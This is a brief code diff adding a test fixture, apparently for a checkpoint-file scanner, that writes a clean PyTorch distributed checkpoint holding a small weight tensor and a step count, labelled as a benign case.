+@benign("dcp-clean", "torch-dcp-metadata-pickle", loader="torch_dcp", name="checkpoint")
+def _dcp_clean(out: Path, c: Canary) -> None:
+    import torch
+
+    _dcp_save(out, {"weight": torch.ones(2, 2), "step": 10})
